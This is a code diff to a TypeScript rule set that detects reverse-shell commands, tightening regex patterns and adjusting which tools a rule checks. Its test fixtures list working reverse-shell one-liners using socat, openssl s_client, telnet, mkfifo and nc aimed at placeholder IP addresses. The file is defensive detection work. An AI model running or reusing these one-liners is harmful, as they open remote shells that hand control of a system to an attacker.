@@ -14,7 +14,7 @@ const SOCKET = /\bsocket\b|\bSocket\b|TCPSocket|TCPServer|TCPClient|fsockopen|st
 /** Something that runs a shell, or ties a program's streams to a connection. */
 const SHELL_CALL = /dup2|pty\.spawn|\/bin\/(?:ba|z|da|k|a)?sh|exec\s{0,4}[("'{]{1,3}(?:\/bin\/)?(?:ba|z)?sh|["'](?:ba|z|da)?sh["']|cmd\.exe|["']cmd["']|powershell|child_process|ProcessBuilder|getRuntime|shell_exec|proc_open|passthru|IO\.popen|io\.popen|os\.execute|\biex\b|Invoke-Expression|subprocess|os\.popen|getline|Open3|\bsystem\b|\bexec\b|`\$\w|\bqx\b|StreamReader/i;
 /** Both ends tied: a shell reads what the network sends. */
-const TIES = /dup2|fileno|fdopen|stdin\s{0,2}=|accept\(|pty\.spawn|\.pipe\(\s{0,4}\w{1,32}\.stdin|stdin\.pipe|exec\s?\(?["'{]{1,3}\/bin|while|recv|\.read|getline|\.gets|GetStream|fgets|<&|>&|>\s?&|&3|\$sock|stdio|loop|each_line/i;
+const TIES = /dup2|fileno|fdopen|stdin\s{0,2}=|accept\(|pty\.spawn|\.pipe\([^;\n]{0,80}stdin|stdin\.pipe|exec\s?\(?["'{]{1,3}\/bin|while|recv|\.read|getline|\.gets|GetStream|fgets|<&|>&|>\s?&|&3|\$sock|stdio|loop|each_line/i;
 
 function codeConnectsShell(code: string): boolean {
   return SOCKET.test(code) && SHELL_CALL.test(code) && TIES.test(code) && /(?:\d{1,3}\.){3}\d{1,3}|["'`][\w-]{1,63}(?:\.[\w-]{1,63}){1,8}["'`]|\b\d{2,5}\b|getenv|environ|argv|ARGV/.test(code);
@@ -54,15 +54,13 @@ export const REVERSE_SHELL_RULES: readonly CommandRule[] = [
     ignores: ['cat install.sh | bash', 'nc -z db 5432 && bash run.sh'],
   },
   {
-    id: 'piped-shell', family: 'reverse-shell', certainty: 'certain', verbs: ['telnet', 'openssl', 'socat', 'websocat', 'ssh', 'gs-netcat', 'ngrok', 'curl'],
+    id: 'piped-shell', family: 'reverse-shell', certainty: 'certain', verbs: ['telnet', 'openssl', 'socat', 'websocat', 'gs-netcat'],
     test: (invocation) => {
       const args = joinedArgs(invocation);
       if (invocation.name === 'socat') return /exec:|system:|\bpty\b/.test(args) && SHELL_PATH.test(args.replace(/exec:|system:/g, ' ')) && /(?:tcp|udp|openssl|ssl|unix)[\w-]*:/.test(args);
       if (invocation.name === 'gs-netcat') return /-\w*[il]/.test(args);
       if (invocation.name === 'websocat') return /sh-c:|exec:|cmd:/.test(args);
-      if (invocation.name === 'ngrok' || invocation.name === 'curl') return false;
       if (invocation.name === 'openssl' && invocation.texts[0] !== 's_client') return false;
-      if (invocation.name === 'ssh') return false;
       return upstream(invocation).some((feed) => isShell(feed.name) && (feed.texts.length === 0 || feed.texts.some((text) => /^-\w*i/.test(text))));
     },
     matches: ["socat TCP:10.0.0.1:4444 EXEC:'/bin/bash',pty,stderr", 'socat TCP-LISTEN:4444,fork EXEC:/bin/sh', 'mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 1.2.3.4:443 > /tmp/s', 'sh -i </tmp/p 2>&1 | telnet 1.2.3.4 9 >/tmp/p'],
@@ -116,7 +114,7 @@ export const REVERSE_SHELL_RULES: readonly CommandRule[] = [
     ignores: ['ssh -L 5432:localhost:5432 db', 'ssh -R 8080:localhost:8080 dev.example.com'],
   },
   {
-    id: 'remote-debug-shell', family: 'reverse-shell', certainty: 'certain', verbs: ['mkfifo', 'mknod'],
+    id: 'shell-through-pipe', family: 'reverse-shell', certainty: 'certain', verbs: ['mkfifo', 'mknod'],
     // A pipe made for a shell: the rest of the line ties it to a program that connects.
     test: (invocation, scene) => scene.walk.script.includes('sh') && invocation.texts.length > 0 && /\b(?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\b/.test(scene.walk.script) && /\b(?:ba|z|da|k)?sh\s+(?:-i|\d?<|2>|\|)/.test(scene.walk.script),
     matches: ['mknod /tmp/b p && /bin/sh 0</tmp/b | nc 10.0.0.1 4444 1>/tmp/b', 'mkfifo p; nc 1.2.3.4 5 < p | sh -i > p 2>&1'],
